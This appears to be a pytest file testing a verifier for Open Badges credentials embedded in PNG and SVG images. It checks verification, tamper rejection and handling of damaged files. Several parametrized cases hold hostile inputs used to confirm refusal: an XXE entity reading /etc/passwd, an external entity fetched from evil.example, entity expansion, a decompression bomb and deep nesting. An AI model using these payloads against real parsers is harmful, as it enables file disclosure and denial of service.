"""Badges baked into pictures: verified as what they carry, and a picture is never trusted with anything."""

from __future__ import annotations

import json
import zlib
from pathlib import Path

import pytest

from tests.verification.baking import chunk, itxt, png, svg
from tests.verification.made_records import AT, badge, eddsa_rdfc_2022, ob3_jwt, school_sources, vc_jwt
from verification import Policy, Report, Verdict, verify
from verification.budget import Limits
from verification.codes import Code, Container, Format
from verification.containers import open_record
from verification.credential import Credential
from verification.errors import Problem

_SAMPLES = Path(__file__).parents[3].parent / "shared" / "vectors" / "1edtech-public-validator" / "inspector-vc-test"
TEXT = json.dumps(eddsa_rdfc_2022())
LIMITS = Limits()


def verified(data: bytes) -> Report:
    return verify(data, policy=Policy(), sources=school_sources(), at=AT)


def problem_of(data: bytes, limits: Limits = LIMITS) -> Problem:
    with pytest.raises(Problem) as caught:
        open_record(data, limits)
    return caught.value


@pytest.mark.parametrize(
    ("data", "container"),
    [
        (png(itxt(TEXT.encode())), Container.PNG),
        (png(itxt(TEXT.encode(), packed=True)), Container.PNG),
        (png(itxt(vc_jwt().encode())), Container.PNG),
        (png(itxt(b"hello", b"Comment"), chunk(b"tEXt", b"openbadges\0" + ob3_jwt().encode())), Container.PNG),
        (svg(TEXT), Container.SVG),
        (svg(verify=vc_jwt()), Container.SVG),
        (svg("for people", verify=vc_jwt()), Container.SVG),
        (
            svg(TEXT, before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://w3.example/svg.dtd">'),
            Container.SVG,
        ),
        (svg(TEXT, space="http://openbadges.org", name="assertion"), Container.SVG),
    ],
)
def test_it_works(data: bytes, container: Container) -> None:
    report = verified(data)
    assert (report.verdict, report.credential.container) == (Verdict.VERIFIED, container)
    assert report.credential.title == "Wound care"


def test_the_credential_has_the_same_digest_in_any_wrapping() -> None:
    bare, baked = open_record(TEXT.encode(), LIMITS), open_record(png(itxt(TEXT.encode())), LIMITS)
    assert isinstance(bare, Credential)
    assert isinstance(baked, Credential)
    assert bare.digest == baked.digest


def test_what_was_altered_in_the_picture_is_rejected() -> None:
    for data in (png(itxt(TEXT.replace("Wound", "Heart").encode())), svg(TEXT.replace("Wound", "Heart"))):
        assert verified(data).verdict is Verdict.REJECTED
    unsigned = json.dumps(badge()).encode()
    assert verified(png(itxt(unsigned))).verdict is Verdict.REJECTED


def test_a_picture_without_a_credential_says_so() -> None:
    for data in (png(), png(itxt(b"hello", b"Comment")), svg(), b"<svg><metadata/></svg>", png(itxt(b"  "))):
        problem = problem_of(data)
        assert problem.code is Code.NOT_A_RECORD
        assert "without a credential" in problem.detail


def test_several_that_differ_are_ambiguous_and_the_same_twice_is_one() -> None:
    other = TEXT.replace("Wound", "Heart").encode()
    assert problem_of(png(itxt(TEXT.encode()), itxt(other))).code is Code.TOO_MANY
    assert verified(png(itxt(TEXT.encode()), itxt(TEXT.encode(), packed=True))).verdict is Verdict.VERIFIED


def test_open_badges_2_are_known_and_not_called_altered() -> None:
    address = verified(png(chunk(b"tEXt", b"openbadges\0https://badges.example/1")))
    assert (address.verdict, address.credential.format) == (Verdict.INDETERMINATE, Format.OPEN_BADGE_2)
    assertion = {"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": "https://badges.example/1"}
    report = verified(png(itxt(json.dumps(assertion).encode(), b"openbadges")))
    assert (report.verdict, report.credential.format) == (Verdict.INDETERMINATE, Format.OPEN_BADGE_2)


@pytest.mark.parametrize("cut", [9, 20, 40, 200, -1, -13])
def test_a_picture_that_breaks_off_is_damaged(cut: int) -> None:
    assert problem_of(png(itxt(TEXT.encode()))[:cut]).code is Code.BAD_ENCODING


def test_a_checksum_that_does_not_fit_is_damage() -> None:
    whole = bytearray(png(itxt(TEXT.encode())))
    whole[whole.index(b"Wound")] ^= 1
    assert problem_of(bytes(whole)).code is Code.BAD_ENCODING


def test_a_text_that_unpacks_to_too_much_is_stopped() -> None:
    bomb = zlib.compress(b" " * 3_000_000, 9)
    data = png(chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + bomb))
    assert problem_of(data, Limits(record=1_000_000)).code is Code.TOO_LARGE
    broken = png(chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + bomb[:-6]))
    assert problem_of(broken).code is Code.BAD_ENCODING


@pytest.mark.parametrize(
    "before",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]>',
    ],
)
def test_entities_are_refused(before: str) -> None:
    assert problem_of(svg(TEXT, before=before)).code is Code.BAD_ENCODING


@pytest.mark.parametrize("encoding", ["UTF-9", "idna", "rot13", "utf-32", "\u00ff"])
def test_an_encoding_that_nobody_knows_is_damage(encoding: str) -> None:
    data = svg(TEXT).replace(b"UTF-8", encoding.encode("latin-1"))
    assert problem_of(data).code is Code.BAD_ENCODING


def test_a_picture_nested_without_end_is_refused() -> None:
    assert problem_of(b"<svg>" + b"<g>" * 200_000).code is Code.TOO_DEEP


@pytest.mark.parametrize("name", ["simple-json.png", "simple-jwt.png", "simple-json.svg", "simple-jwt.svg"])
def test_the_samples_of_1edtech_are_opened(name: str) -> None:
    path = _SAMPLES / "ob30" / name
    if not path.is_file():
        pytest.skip("the shared vectors are not beside the project")
    opened = open_record(path.read_bytes(), LIMITS)
    assert isinstance(opened, Credential)
    assert "OpenBadgeCredential" in str(opened.document["type"])
